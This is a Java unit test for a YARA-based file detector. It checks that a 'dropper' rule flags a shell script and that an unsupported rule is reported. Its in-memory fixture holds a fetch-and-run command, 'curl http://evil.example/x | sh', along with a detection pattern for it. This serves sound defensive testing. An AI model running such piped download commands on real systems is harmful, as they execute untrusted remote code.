package dev.yagura.detect.yara;

import static org.assertj.core.api.Assertions.assertThat;

import dev.yagura.detect.Evidence;
import dev.yagura.detect.Finding;
import dev.yagura.detect.storage.StorageScan;
import dev.yagura.storage.fixture.MemoryTree;
import java.io.IOException;
import java.util.List;
import org.junit.jupiter.api.Test;

class YaraFileDetectorTest {
    private static final String RULES =
            """
            rule dropper : linux shell {
              meta: author = "us"
              strings: $a = "curl http://" $b = /\\|\\s*sh/
              condition: all of them and extension == ".sh"
            }
            rule windows { condition: pe.is_dll() }
            """;

    private final MemoryTree tree =
            new MemoryTree("made up")
                    .file("/etc/passwd", "root:x:0:0::/root:/bin/bash\n")
                    .file("/opt/run.sh", "curl http://evil.example/x | sh\n")
                    .file("/opt/run.txt", "curl http://evil.example/x | sh\n");

    private StorageScan scan() throws IOException {
        YaraRules rules = YaraRules.of(List.of(new YaraSource("us.yar", RULES)));
        return StorageScan.of(tree, List.of(new YaraFileDetector(rules)));
    }

    @Test
    void aFileThatARuleDescribesIsFoundWithWhatWasFoundInIt() throws IOException {
        Finding finding = scan().findings().getFirst();

        assertThat(scan().findings()).hasSize(1);
        assertThat(finding.rule()).isEqualTo("yara.file");
        assertThat(finding.subject()).isEqualTo("rule dropper in /opt/run.sh");
        assertThat(finding.evidence())
                .extracting(Evidence::describe)
                .anyMatch(text -> text.startsWith("/opt/run.sh is a regular of 32 bytes"))
                .contains(
                        "a row of us.yar has rule dropper, tags [linux, shell], meta.author us,"
                                + " which is: its condition",
                        "/opt/run.sh has \"curl http://\" at byte 0, which is of the form $a of"
                                + " rule dropper (1 matches)",
                        "/opt/run.sh has \"| sh\" at byte 27, which is of the form $b of rule"
                                + " dropper (1 matches)");
    }

    @Test
    void refusedRulesAreToldAndCounted() throws IOException {
        StorageScan scan = scan();

        assertThat(scan.report().notCovered())
                .extracting(gap -> gap.what() + ": " + gap.why())
                .containsExactly("rule windows: us.yar:6:27: module pe is not supported");
        assertThat(scan.report().looked())
                .containsEntry("YARA rules", 1L)
                .containsEntry("files by YARA rules", 3L);
    }
}
